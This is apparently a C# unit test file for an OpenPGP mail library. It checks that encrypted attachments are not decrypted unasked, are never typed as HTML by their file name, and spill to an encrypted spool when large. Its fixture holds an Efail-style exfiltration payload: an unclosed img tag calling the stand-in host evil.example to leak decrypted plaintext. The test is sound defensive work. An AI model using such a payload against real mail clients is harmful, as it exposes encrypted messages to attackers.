using System.Text;
using MimeKit;
using static CryptoMail.Core.Tests.Mime.MimeFixtures;

namespace CryptoMail.Core.Tests.Mime.Attacks;

/// <summary>Encrypted attachments (<c>.pgp</c>, <c>.gpg</c>, <c>.asc</c>) sit beside content an attacker chose, so they
/// are not the message's cryptographic envelope (RFC 9787 section 4, Errant Cryptographic Layers). Decrypting one and
/// typing its plaintext by the attacker's file name (<c>x.html.asc</c> becoming text/html next to an unencrypted HTML
/// part) is Efail's direct exfiltration; holding it in memory up to the decompression limit is unbounded memory.</summary>
public class EncryptedAttachmentTests
{
    private readonly OpenPgp pgp = new();

    private MimeMessage WithEncryptedAttachment(string fileName, byte[] content)
    {
        using var encrypted = new MemoryStream();
        pgp.Encrypt(new MemoryStream(content), encrypted, new EncryptOptions { Armor = true, Recipients = { Bob.Certificate } });
        var message = TextMessage();
        var builder = new BodyBuilder { HtmlBody = "<html><body><img src=\"https://evil.example/?" };
        builder.Attachments.Add(fileName, encrypted.ToArray(), ContentType.Parse("application/octet-stream"));
        message.Body = builder.ToMessageBody();
        return Transport(message);
    }

    private static readonly byte[] Secret = Encoding.UTF8.GetBytes("\"></body></html> the secret\n");

    [Fact]
    public void Encrypted_attachment_is_not_decrypted_unless_asked()
    {
        var opened = pgp.Mime.Open(WithEncryptedAttachment("x.html.asc", Secret), BobOpens());

        Assert.False(opened.Decrypted);
        Assert.Equal(ProtectionCoverage.Partial, opened.Encryption);
        Assert.DoesNotContain("the secret", opened.Message.ToString(), StringComparison.Ordinal);
        var attachment = Assert.Single(opened.Message.Attachments.OfType<MimePart>());
        Assert.Equal("x.html.asc", attachment.FileName);
    }

    [Fact]
    public void Decrypted_attachment_is_never_typed_by_its_file_name()
    {
        var opened = pgp.Mime.Open(WithEncryptedAttachment("x.html.asc", Secret), BobOpens(decryptNested: true));

        Assert.True(opened.Decrypted);
        Assert.Equal(ProtectionCoverage.Partial, opened.Encryption);
        // The only HTML part is the attacker's own, unencrypted one.
        Assert.Single(opened.Message.BodyParts, p => p.ContentType.IsMimeType("text", "html"));
        var attachment = Assert.Single(opened.Message.Attachments.OfType<MimePart>());
        Assert.Equal("application/octet-stream", attachment.ContentType.MimeType);
        Assert.True(attachment.IsAttachment);
        using var content = new MemoryStream();
        attachment.Content!.DecodeTo(content);
        Assert.Equal(Secret, content.ToArray());
    }

    [Fact]
    public void Decrypted_attachment_is_held_in_the_encrypted_spool()
    {
        var big = new byte[MimeSpool.MemoryLimit + 100_000];
        new Random(9787).NextBytes(big);

        var opened = pgp.Mime.Open(WithEncryptedAttachment("backup.tar.gpg", big), BobOpens(decryptNested: true));

        var attachment = Assert.Single(opened.Message.Attachments.OfType<MimePart>());
        var spool = Assert.IsType<MimeSpool>(attachment.Content!.Stream);
        Assert.True(spool.Spilled);
        using var content = new MemoryStream();
        attachment.Content.DecodeTo(content);
        Assert.Equal(big, content.ToArray());
    }
}
